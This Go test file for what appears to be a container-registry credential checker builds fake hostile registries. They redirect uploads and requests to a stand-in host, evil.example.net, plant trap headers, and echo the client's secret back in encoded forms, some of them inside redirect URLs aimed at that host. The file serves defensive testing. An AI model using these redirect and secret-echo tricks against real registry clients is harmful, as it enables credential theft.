package doctor_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"strconv"
	"strings"

	"github.com/stellaops/terraform-provider-stellaops/internal/doctor"
	"github.com/stellaops/terraform-provider-stellaops/internal/registry"
	"github.com/stellaops/terraform-provider-stellaops/internal/registrytest"
	"github.com/stellaops/terraform-provider-stellaops/internal/verdict"
)

// useAttacks redirect an action: an upload to another host, and redirects of each
// method.
func useAttacks() []attack {
	const uploads, accepted, unproven = "/v2/org/app/blobs/uploads/1", verdict.ReasonAccepted, verdict.ReasonAccessUnproven
	use := func(name, action string, reason verdict.Reason, bait func(visit) response) attack {
		return attack{name: name, want: presenting(reason), arrange: asking(action), answers: func(v visit) response {
			switch {
			case v.Authorization == "":
				return registrytest.Unauthorized(basicWanted)
			case v.Path == "/v2/":
				return registrytest.OK()
			default:
				return bait(v)
			}
		}}
	}
	var rows []attack
	for _, target := range elsewhereThan("r.example.com") {
		if target.location[0] == '\\' || target.location[2] == '/' && target.unread {
			continue // a path on its own host, where the upload is cancelled
		}
		started := reply(202, "", "Location", strings.Replace(target.location, "/v2/", uploads, 1), "Docker-Upload-Uuid", "1")
		row := use("upload starts at "+target.name, "push", accepted, always(started))
		issued := row
		issued.variant, issued.want, issued.answers = "with an issued token", exchanging(verdict.ReasonExchangeAccepted), func(v visit) response {
			switch {
			case v.Authorization != "Bearer "+attackMinted:
				return registrytest.Unauthorized(bearerWanted)
			case v.Path == "/v2/":
				return registrytest.OK()
			default:
				return started
			}
		}
		rows = append(rows, row, issued)
	}
	for _, status := range redirectStatuses {
		for _, action := range doctor.Actions() {
			row := use("use: a redirect of "+action, action, unproven, always(redirection(status, "https://evil.example.net"+uploads)))
			row.variant = strconv.Itoa(status)
			rows = append(rows, row)
		}
		cancelled := use("use: a redirect of an upload's end", "push", accepted, func(v visit) response {
			if v.Path == uploads {
				return redirection(status, "https://evil.example.net"+uploads)
			}
			return reply(202, "", "Location", uploads)
		})
		cancelled.variant = strconv.Itoa(status)
		rows = append(rows, cancelled)
	}
	return rows
}

// headerAttacks name the trap in headers that some clients follow.
func headerAttacks() []attack {
	const trap = "https://evil.example.net/v2/"
	var rows []attack
	for _, header := range []struct{ name, value string }{
		{"Alt-Svc", `h2="evil.example.net:443"; ma=86400, h3=":8443"; ma=86400`},
		{"Refresh", "0; url=" + trap},
		{"Link", "<" + trap + ">; rel=preload, <" + trap + ">; rel=canonical"},
		{"Content-Location", trap},
		{"Location", trap},
		{"Set-Cookie", "session=1; Domain=example.com; Path=/"},
		{"X-Accel-Redirect", trap},
		{"Www-Authenticate", `Bearer realm="` + trap + `"`},
	} {
		rows = append(rows, attack{name: "header " + header.name + " of an answer", want: presenting(verdict.ReasonAccepted), answers: func(v visit) response {
			if v.Authorization == "" {
				challenged := registrytest.Unauthorized(basicWanted)
				if header.name != "Www-Authenticate" {
					challenged.Header[header.name] = []string{header.value}
				}
				return challenged
			}
			return reply(200, "{}", header.name, header.value)
		}})
	}
	for _, status := range []int{201, 202, 300, 304, 305, 306, 404, 410, 421, 426} {
		rows = append(rows, attack{name: "status " + strconv.Itoa(status) + " with a Location", want: presenting(verdict.ReasonUnexpectedAnswer),
			answers: baits(always(reply(status, "", "Location", trap, "Upgrade", "h2c")))})
	}
	http2 := attack{name: "header Alt-Svc over HTTP/2", want: presenting(verdict.ReasonAccepted), answers: takes, arrange: overHTTP2(registrytest.Response{
		Status: 200, Header: map[string][]string{"Alt-Svc": {`h2="evil.example.net:443"`}, "Link": {"<" + trap + ">; rel=preload"}}, Body: "{}",
	})}
	redirected := attack{name: "/v2/ leads to another host over HTTP/2", want: presenting(verdict.ReasonUnexpectedRedirect), answers: takes, arrange: overHTTP2(redirection(307, trap))}
	page := `<html><head><meta http-equiv="refresh" content="0; url=` + trap + `"><base href="` + trap + `"></head></html>`
	return append(rows, http2, redirected,
		attack{name: "page that leads on", want: presenting(verdict.ReasonNotARegistry), answers: baits(always(reply(200, page, "Content-Type", "text/html")))})
}

// overHTTP2 is a registry over HTTP/2 that answers credentials with the bait.
func overHTTP2(bait response) func(*scene) {
	return func(s *scene) {
		server := registrytest.NewTLS(s.t, func(authorization string) response { return baits(always(bait))(visit{Authorization: authorization}) })
		s.options.TLS.RootCAs.AddCert(server.Certificate())
		s.leads["r.example.com:443"] = []string{server.Host()}
	}
}

// echoAttacks send the secret back, so that the report would show it and the state
// would store it.
func echoAttacks() []attack {
	var rows []attack
	for _, echo := range []struct {
		name string
		form func(secret string) string
	}{
		{"as it is", func(secret string) string { return secret }},
		{"in base64", func(secret string) string { return base64.StdEncoding.EncodeToString([]byte(secret)) }},
		{"as the header had it", func(secret string) string {
			return base64.StdEncoding.EncodeToString([]byte(attackUser + ":" + secret))
		}},
		{"in base64 inside of more", func(secret string) string {
			return base64.URLEncoding.EncodeToString([]byte("login " + secret + " was refused"))
		}},
		{"in hex", func(secret string) string { return hex.EncodeToString([]byte(secret)) }},
		{"percent-encoded", url.QueryEscape},
		{"with invisible letters between", func(secret string) string { return strings.Join(strings.Split(secret, ""), "\u200b") }},
		{"over two lines", func(secret string) string { return secret[:5] + "\n" + secret[5:] }},
	} {
		says := func(v visit) response {
			r := registrytest.Unauthorized(basicWanted)
			message, _ := json.Marshal("no login with " + echo.form(secretOf(v))) // a string always encodes
			r.Body = `{"errors":[{"code":"DENIED","message":` + string(message) + `}]}`
			return r
		}
		rows = append(rows,
			attack{name: "echo of the secret " + echo.name, variant: "in an error", answers: baits(says),
				want: map[registry.Method]verdict.Reason{basicMethod: verdict.ReasonInvalidCredentials, bearerMethod: verdict.ReasonUnsupportedChallenge}},
			attack{name: "echo of the secret " + echo.name, variant: "in plain text", answers: baits(func(v visit) response { return reply(403, echo.form(secretOf(v))) }),
				want: presenting(verdict.ReasonForbidden)},
			attack{name: "echo of the secret " + echo.name, variant: "in an error of the token service", answers: wants(bearerWanted), tokens: says,
				want: exchanging(verdict.ReasonInvalidCredentials)},
			attack{name: "echo of the secret " + echo.name, variant: "in an OAuth2 error", answers: wants(bearerWanted), want: exchanging(verdict.ReasonInvalidCredentials),
				tokens: func(v visit) response {
					message, _ := json.Marshal(echo.form(secretOf(v))) // a string always encodes
					return reply(400, `{"error":"invalid_grant","error_description":`+string(message)+`}`)
				}})
	}
	inChallenge := func(v visit) response {
		s := secretOf(v)
		return registrytest.Unauthorized(`Bearer realm="https://auth.example.com/` + url.PathEscape(s) + `?s=` + url.QueryEscape(s) + `",service="` + s + `",scope="` + s + `",error="` + s + `",error_description="expired: ` + s + `"`)
	}
	return append(rows,
		attack{name: "echo of the secret in a challenge", want: map[registry.Method]verdict.Reason{bearerMethod: verdict.ReasonTokenExpired, basicMethod: verdict.ReasonTokenRejected},
			answers: baits(inChallenge), writtenByRegistry: true},
		attack{name: "echo of the secret in a challenge", variant: "to a service that refuses", want: map[registry.Method]verdict.Reason{basicMethod: verdict.ReasonInvalidCredentials},
			answers: baits(inChallenge), writtenByRegistry: true, tokens: always(registrytest.Unauthorized(basicWanted))},
		attack{name: "echo of the secret in a challenge that leads nowhere", want: presenting(verdict.ReasonUnsupportedChallenge),
			answers: baits(func(v visit) response {
				s := secretOf(v)
				return registrytest.Unauthorized(`Digest realm="` + s + `",service="` + s + `",error="` + s + `"`)
			})},
		attack{name: "echo of the secret in a redirect", variant: "as a host in base64", want: presenting(verdict.ReasonUnexpectedRedirect),
			answers: baits(func(v visit) response {
				return redirection(302, "https://"+encoded(secretOf(v))+".evil.example.net/")
			})},
		attack{name: "echo of the secret in a redirect", variant: "as a user and a path", want: presenting(verdict.ReasonUnexpectedRedirect),
			answers: baits(func(v visit) response {
				s := url.PathEscape(secretOf(v))
				return redirection(302, "https://ci:"+s+"@evil.example.net/"+s+"?"+s)
			})},
		attack{name: "echo of the secret in a redirect of the token service", want: exchanging(verdict.ReasonUnexpectedRedirect), answers: wants(bearerWanted),
			tokens: func(v visit) response {
				s := url.PathEscape(secretOf(v))
				return redirection(307, "https://ci:"+s+"@evil.example.net/"+s)
			}},
		attack{name: "echo of the secret as the token, which the registry shows",
			want:   map[registry.Method]verdict.Reason{basicMethod: verdict.ReasonTokenRejected, identityMethod: verdict.ReasonExchangeUnavailable},
			tokens: func(v visit) response { return reply(200, `{"token":"`+secretOf(v)+`"}`) },
			answers: func(v visit) response {
				return func() response { r := registrytest.Unauthorized(bearerWanted); r.Body = secretOf(v); return r }()
			}},
		attack{name: "echo of the issued token", want: exchanging(verdict.ReasonTokenRejected),
			answers: func(v visit) response {
				r := registrytest.Unauthorized(bearerWanted)
				r.Body = `{"errors":[{"code":"INVALID","message":"` + v.Authorization + `"}]}`
				return r
			}},
		attack{name: "echo of the secret in headers and a cookie", want: presenting(verdict.ReasonAccepted), answers: baits(func(v visit) response {
			s := secretOf(v)
			return reply(200, s, "Docker-Distribution-Api-Version", s, "Set-Cookie", "s="+url.QueryEscape(s)+"; Domain=example.com", "X-Secret", s, "Content-Type", "text/"+s)
		})},
	)
}
